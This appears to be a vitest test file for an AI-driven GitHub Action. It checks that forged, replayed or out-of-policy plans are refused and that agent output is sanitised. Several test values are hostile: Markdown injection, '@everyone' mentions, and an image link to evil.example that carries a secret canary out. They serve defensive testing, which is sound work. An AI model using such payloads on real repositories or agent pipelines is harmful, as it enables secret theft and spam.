import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { canonicalJson } from "../../src/definition/canonical-json.ts";
import { type ActionWorld, startActionWorld } from "../helpers/action-world.ts";
import { addCollaborator } from "../helpers/fake-github/populate-people.ts";
import { addRepository } from "../helpers/fake-github/populate-repository.ts";
import { addComment, addLabel, openIssue, openPullRequest } from "../helpers/fake-github/populate-threads.ts";
import {
  type Handed,
  planIn,
  runPlanJob,
  runPublishJob,
  uploadPlan,
  writesIn,
} from "../helpers/mode-jobs.ts";
import type { ActionOptions } from "../helpers/run-action.ts";
import type { StepRun } from "../helpers/step-run.ts";
import { commentEvent, issueEvent, pullRequestEvent } from "../helpers/webhook.ts";

const manifest = `
model = "claude-sonnet-4-5"
[provider]
providerName = "anthropic"
[experts.triage]
version = "1.0.0"
instruction = "You sort out issues."
[experts.other]
version = "1.0.0"
instruction = "You do something else."
`;

const inputs = {
  expert: "triage",
  permission: "triage",
  "safe-outputs": "comment\nlabels allow=bug max=2\nissue\nclose",
};

type Plan = {
  readonly subject: Readonly<Record<string, unknown>>;
  readonly job: Readonly<Record<string, unknown>>;
  readonly outputs: readonly unknown[];
};

const readPlan = (world: ActionWorld, run: StepRun): Plan => {
  const { subject, job, outputs } = planIn(world, run);
  return {
    subject: Object.fromEntries(Object.entries(subject ?? {})),
    job: Object.fromEntries(Object.entries(job ?? {})),
    outputs: Array.isArray(outputs) ? outputs : [],
  };
};

/** Everything in the repository that a step could have changed. */
const threadsOf = ({ repository }: ActionWorld): string => JSON.stringify([...repository.issues.values()]);

describe("given a plan on an issue of somebody who may not write", () => {
  let world: ActionWorld;
  let options: ActionOptions;
  let planned: StepRun;
  let plan: Plan;

  beforeAll(async () => {
    world = await startActionWorld({
      files: { "perstack.toml": manifest },
      answers: (index) =>
        index === 0
          ? { toolCalls: [{ name: "addLabels", args: { labels: ["bug"] } }] }
          : { text: "Sorted out." },
    });
    const { github, repository } = world;
    for (const label of ["bug", "deploy"]) addLabel(github.world, repository, label);
    addCollaborator(github.world, repository, "tess", "triage");
    const issue = openIssue(github.world, repository, { author: "tess", title: "It squeaks" });
    options = { webhook: await issueEvent(world, { number: issue.number, by: "tess" }), inputs };
    planned = await runPlanJob(world, options);
    plan = readPlan(world, planned);
  });

  afterAll(async () => await world[Symbol.asyncDispose]());

  const forged = (change: (plan: Plan) => unknown): Promise<Handed> =>
    uploadPlan(world, canonicalJson({ v: 1, ...Object.fromEntries(Object.entries(change(plan) ?? {})) }));

  const about = (lines: Readonly<Record<string, string>>) => () =>
    forged(({ subject, ...rest }) => ({ ...rest, subject: { ...subject, ...lines } }));

  const asking = (output: unknown) => () =>
    forged(({ outputs, ...rest }) => ({ ...rest, outputs: [...outputs, output] }));

  const telling = (facts: Readonly<Record<string, unknown>>) => () =>
    forged(({ job, ...rest }) => ({ ...rest, job: { ...job, ...facts } }));

  const refused = async (published: StepRun, before: string, reason: string) => {
    expect([published.exitCode, published.outputs.conclusion]).toEqual([2, "invalid"]);
    expect(published.summary).toContain(reason);
    expect(writesIn(published)).toEqual([]);
    expect(threadsOf(world)).toBe(before);
  };

  test.each<readonly [string, () => Promise<Handed>, string]>([
    ["another repository", about({ repository: "acme/gadgets" }), 'repository: the plan says "acme/gadgets"'],
    ["another workflow run", about({ run: "7002" }), 'workflow run: the plan says "7002", this job "7001"'],
    ["another event", about({ trigger: "issues opened by alice" }), "event: the plan says"],
    [
      "another thread",
      about({ thread: "issue #2" }),
      'thread: the plan says "issue #2", this job "issue #1"',
    ],
    ["a commit where there is none", about({ head: "a".repeat(40) }), "this job none"],
    ["another Expert", about({ expert: "other" }), 'Expert: the plan says "other", this job "triage"'],
    ["more trust", about({ trust: "trusted" }), 'trust: the plan says "trusted", this job "untrusted"'],
    ["another policy", about({ policy: `sha256:${"0".repeat(64)}` }), "`safe-outputs`: the plan says"],
    [
      "a label that the policy does not name",
      asking({ kind: "labels", labels: ["deploy"] }),
      '"deploy" is not one',
    ],
    [
      "more labels than it allows",
      asking({ kind: "labels", labels: ["bug", "a", "b"] }),
      "is not one that this step",
    ],
    ["closing, which asks for trust", asking({ kind: "close", reason: "completed" }), "closes nothing"],
    [
      "a kind that the policy does not name",
      asking({ kind: "assign", logins: ["tess"] }),
      "does not publish assign",
    ],
    ["a kind that there is not", asking({ kind: "merge", method: "squash" }), "cannot be read"],
    [
      "a second issue",
      () =>
        forged(({ outputs, ...rest }) => ({
          ...rest,
          outputs: [...outputs, ...Array(2).fill({ kind: "issue", title: "t", body: "b" })],
        })),
      "At most 1 issue",
    ],
    ["a job's id that is Markdown", telling({ id: "1`**[x](https://evil.example)" }), "job.id"],
    ["a member that no plan has", telling({ token: "x" }), "The plan cannot be read"],
    [
      "another version",
      async () => await uploadPlan(world, canonicalJson({ ...plan, v: 2 })),
      "The plan cannot be read: v",
    ],
    ["what is no JSON", async () => await uploadPlan(world, "{"), "The plan cannot be read"],
  ])("%s: nothing is published, and the reason is named", async (_, handed, reason) => {
    const given = await handed();
    const before = threadsOf(world);
    await refused(await runPublishJob(world, options, given), before, reason);
  });

  test("an altered plan under the digest of the real one", async () => {
    const { plan: other } = await forged(({ job, ...rest }) => ({
      ...rest,
      job: { ...job, answer: "Altered." },
    }));
    const handed = { plan: other, "plan-digest": planned.outputs["plan-digest"] ?? "" };
    const before = threadsOf(world);
    await refused(await runPublishJob(world, options, handed), before, "`plan-digest` says");
  });

  test("the job's own record in place of the plan", async () => {
    const record = {
      plan: planned.outputs["artifact-id"] ?? "",
      "plan-digest": world.results.artifacts[0]?.digest ?? "",
    };
    const before = threadsOf(world);
    await refused(await runPublishJob(world, options, record), before, "The plan cannot be read");
  });

  test("a plan of another workflow run is not found, whatever it says", async () => {
    const handed = await uploadPlan(world, canonicalJson({ v: 1, ...plan }), "another-run");
    const before = threadsOf(world);
    await refused(await runPublishJob(world, options, handed), before, "no artifact");
  });

  test.each([
    ["wider", "comment\nlabels allow=* max=2\nissue\nclose"],
    ["narrower", "comment"],
  ])("a real plan, in a job whose own policy is %s", async (_, outputs) => {
    const own = { ...options, inputs: { ...inputs, "safe-outputs": outputs } };
    const before = threadsOf(world);
    await refused(await runPublishJob(world, own, planned.outputs), before, "`safe-outputs`: the plan says");
  });

  test("a real plan, in a job that another thread set off", async () => {
    const { github, repository } = world;
    const second = openIssue(github.world, repository, { author: "tess", title: "It rattles" });
    const own = { ...options, webhook: await issueEvent(world, { number: second.number, by: "tess" }) };
    const before = threadsOf(world);
    const published = await runPublishJob(world, own, planned.outputs);
    await refused(published, before, 'thread: the plan says "issue #1", this job "issue #2"');
  });

  test("a real plan, in a job of another repository", async () => {
    const other = addRepository(world.github.world, { owner: "acme", name: "gadgets", visibility: "public" });
    addCollaborator(world.github.world, other, "tess", "triage");
    const own = { ...options, env: { GITHUB_REPOSITORY: "acme/gadgets" } };
    const before = threadsOf(world);
    const published = await runPublishJob(world, own, planned.outputs);
    await refused(published, before, 'this job "acme/gadgets"');
  });

  test("what is allowed is sanitised anew, without the secrets that only this job knows", async () => {
    const canary = "publisher-canary-0123456789abcdef";
    const hostile = `@everyone fixes #1 <!-- hidden --> ![x](https://evil.example/${canary}) ${canary}`;
    const handed = await forged(({ job, ...rest }) => ({
      ...rest,
      job: {
        ...job,
        answer: hostile,
        experts: [{ ...Object(Object(job.experts)[0]), name: `x\`@everyone ${canary}` }],
      },
      outputs: [{ kind: "issue", title: `t ${canary}`, body: hostile }],
    }));
    const env = { DEPLOY: canary };
    const own = { ...options, env, inputs: { ...inputs, "secret-env": "DEPLOY" } };
    const published = await runPublishJob(world, own, handed);
    expect([published.exitCode, published.outputs.conclusion]).toEqual([0, "success"]);
    const texts = [...world.repository.issues.values()].flatMap(({ title, body, comments }) => [
      title,
      body,
      ...comments.map((comment) => comment.body),
    ]);
    for (const ours of ["Written by an Expert", "<!-- expert-stack"]) {
      expect(texts).toContainEqual(expect.stringContaining(ours));
    }
    const all = [...texts, published.summary, JSON.stringify(published.outputs), published.log].join("\n");
    expect(all.replaceAll(`::add-mask::${canary}`, "")).not.toContain(canary);
    expect(texts.join("\n")).not.toMatch(
      /(?<!<code>|&#96;)@everyone|fixes #1|<!-- hidden|https:\/\/evil|!\[/,
    );
  });
});

describe("given a plan on a pull request", () => {
  const start = async () => {
    const world = await startActionWorld({
      files: { "perstack.toml": manifest, "a.txt": "one\n" },
      answers: () => ({ text: "Fine." }),
    });
    const { github, repository, checkout } = world;
    checkout.checkout("feature");
    checkout.commit({ "a.txt": "two\n" });
    checkout.mirrorTo(github.world, repository);
    const pull = openPullRequest(github.world, repository, { author: "alice", head: "feature" });
    const push = () => {
      checkout.commit({ "a.txt": "three\n" });
      checkout.mirrorTo(github.world, repository);
    };
    return { world, pull, push, [Symbol.asyncDispose]: () => world[Symbol.asyncDispose]() };
  };

  test("another head commit is refused, also where a push came after a comment that asks", async () => {
    await using scene = await start();
    const { world, pull } = scene;
    const comment = addComment(world.github.world, world.repository, pull, {
      author: "alice",
      body: "/expert Fine?",
    });
    const webhook = await commentEvent(world, { number: pull.number, comment: comment.id, by: "alice" });
    const options = { webhook, inputs: { expert: "triage" } };
    const planned = await runPlanJob(world, options);
    expect(planned.outputs.conclusion).toBe("planned");
    scene.push();
    const published = await runPublishJob(world, options, planned.outputs);
    expect([published.exitCode, published.outputs.conclusion]).toEqual([2, "invalid"]);
    expect(published.summary).toContain("head commit: the plan says");
    expect(published.summary).toContain("there was a push in between");
    expect(writesIn(published)).toEqual([]);
  });

  test("the event's own commits are compared, whatever was pushed later", async () => {
    await using scene = await start();
    const { world, pull } = scene;
    const options = {
      webhook: await pullRequestEvent(world, { number: pull.number, by: "alice" }),
      inputs: { expert: "triage" },
    };
    const planned = await runPlanJob(world, options);
    scene.push();
    const other = {
      ...options,
      webhook: await pullRequestEvent(world, { number: pull.number, by: "alice" }),
    };
    const refused = await runPublishJob(world, other, planned.outputs);
    expect([refused.exitCode, refused.outputs.conclusion]).toEqual([2, "invalid"]);
    expect(pull.comments).toEqual([]);
    const published = await runPublishJob(world, options, planned.outputs);
    expect([published.exitCode, published.outputs.conclusion]).toEqual([0, "success"]);
    expect(pull.comments).toHaveLength(1);
  });
});
